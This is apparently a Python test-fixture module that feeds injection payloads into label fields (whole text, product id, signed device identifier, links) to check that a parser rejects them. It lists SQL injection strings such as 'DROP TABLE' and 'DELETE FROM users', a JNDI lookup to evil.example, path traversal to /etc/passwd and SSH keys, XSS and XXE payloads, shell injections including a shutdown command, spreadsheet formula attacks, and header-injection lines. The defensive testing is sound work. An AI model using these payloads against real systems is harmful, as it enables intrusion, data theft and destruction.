"""Texts that some other program would take for a command: as the whole code, as a product, as a signed identifier."""

from __future__ import annotations

from collections.abc import Iterator

from simulator.labels.corpus.case import NO_LABEL, NO_PRODUCT, NOT_SIGNED, Case, Setting, case

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE devices; --",
    '" OR ""="',
    "1 UNION SELECT * FROM products",
    "x') OR ('a'='a",
    "1; WAITFOR DELAY '0:0:5'--",
    "'||pg_sleep(5)||'",
    "admin'/*",
    "\\'; DELETE FROM users; --",
    '{"$ne":null}',
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "{{''.__class__.__mro__}}",
    "%s%s%s%n",
    "{0.__init__.__globals__}",
    "[[${7*7}]]",
    "@(7*7)",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "\\\\evil.example\\share",
    "C:\\Windows\\System32",
    "CON",
    "~/.ssh/id_ed25519",
    "php://filter/resource=index",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "'-alert(1)-'",
    "</script><script>alert(1)</script>",
    "<!--#exec cmd='id'-->",
    "<?php system('id'); ?>",
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
)
SHELL = (
    "; id",
    "$(id)",
    "`id`",
    "| id",
    "&& shutdown -h now",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "() { :;}; echo",
    "--help",
)


def _cases(setting: Setting, texts: tuple[str, ...]) -> Iterator[Case]:
    for text in texts:
        yield case(f"the whole text: {text}", text, NO_LABEL)
        yield case(f"the product: {text}", setting.json(product_id=text), NO_PRODUCT)
    for text in texts[:4]:
        signed = setting.label("json", signed=True, device_identifier=text)
        yield case(f"the identifier, not signed: {text}", setting.plain_of(signed), NOT_SIGNED)
        yield case(f"link, the product: {text}", setting.plain("link", product_id=text), NO_PRODUCT)


def sql(setting: Setting) -> Iterator[Case]:
    """For databases."""
    return _cases(setting, SQL)


def templates(setting: Setting) -> Iterator[Case]:
    """For templates, log lines and format strings."""
    return _cases(setting, TEMPLATES)


def paths(setting: Setting) -> Iterator[Case]:
    """For whoever makes a file name or an address of it."""
    return _cases(setting, PATHS)


def scripts(setting: Setting) -> Iterator[Case]:
    """For pages and readers of XML."""
    return _cases(setting, SCRIPTS)


def shell(setting: Setting) -> Iterator[Case]:
    """For shells and spreadsheets."""
    return _cases(setting, SHELL)


def headers(setting: Setting) -> Iterator[Case]:
    """For whoever writes a header or a line of a log of it."""
    for text in (
        "a\r\nSet-Cookie: session=1",
        "a\nLocation: https://evil.example/",
        "a\r\n\r\nHTTP/1.1 200 OK",
        "a\u2028INFO signed in as admin",
        "a\u0085INFO signed in as admin",
    ):
        shown = text.encode("unicode_escape").decode()
        yield case(f"the identifier: {shown}", setting.json(device_identifier=text), NO_LABEL)
        yield case(f"the product: {shown}", setting.json(product_id=text), NO_LABEL)
        yield case(f"link, the identifier: {shown}", setting.percent_link(text), NO_LABEL)
